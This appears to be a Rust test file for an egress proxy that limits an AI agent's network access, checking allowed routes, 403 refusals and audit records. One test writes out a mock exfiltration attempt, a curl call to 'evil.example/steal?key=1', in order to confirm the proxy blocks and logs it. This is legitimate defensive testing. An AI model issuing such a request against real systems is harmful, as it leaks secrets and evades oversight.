//! Ways out that an agent may try.

use super::{ELSEWHERE, Internet, pod};
use crate::support::pod::AGENT;

#[tokio::test(flavor = "current_thread")]
async fn an_agent_that_knows_no_proxy_is_governed() {
    let pod = pod().start().await;
    let internet = Internet::start().await;

    let allowed = pod.curl(&["https://api.example.com/v1/models"]).await;
    assert!(allowed.stdout.ends_with("\n200"), "{allowed:?}");
    let seen = internet.api.wait_for(1).await;
    assert_eq!((&*seen[0].path, seen[0].sni.as_deref()), ("/v1/models", Some("api.example.com")));
    let plain = pod.curl(&["http://plain.example.com/x"]).await;
    assert!(plain.stdout.ends_with("\n200"), "{plain:?}");
    internet.plain.wait_for(1).await;

    let path = pod.curl(&["https://api.example.com/v2"]).await;
    assert!(path.stdout.ends_with("\n403") && path.stdout.contains("route_not_allowed"), "{path:?}");
    internet.assert_nothing_elsewhere();

    let record = pod.record("the request", |record| record["path"] == "/v1/models").await;
    assert_eq!((record["agent"].as_str(), record["identity"].as_str()), (Some("default"), Some("fixed")), "{record}");
    let destination = record["destination"].as_str().unwrap();
    assert!(destination.starts_with("198.1") && destination.ends_with(":443"), "{record}");
    assert!(record["source"].as_str().unwrap().starts_with("10.244.1.7:"), "{record}");
    assert_eq!(record["upstream"], "93.184.216.34:443", "{record}");
}

#[tokio::test(flavor = "current_thread")]
async fn a_name_that_policy_refuses_is_answered_so_that_it_can_be_read() {
    let pod = pod().start().await;
    let internet = Internet::start().await;
    // By its address, since its name is not there to be looked up.
    let to = format!("evil.example:443:{ELSEWHERE}");
    let refused = pod.curl(&["--resolve", &to, "https://evil.example/steal?key=1"]).await;
    assert!(refused.stdout.ends_with("\n403") && refused.stdout.contains("domain_not_allowed"), "{refused:?}");
    let record = pod.record("the refusal", |record| record["host"] == "evil.example" && record["path"] == "/steal").await;
    assert_eq!(record["destination"], format!("{ELSEWHERE}:443"), "{record}");
    assert_eq!(record["agent"], "default", "{record}");
    internet.assert_nothing_elsewhere();
    let _ = AGENT;
}
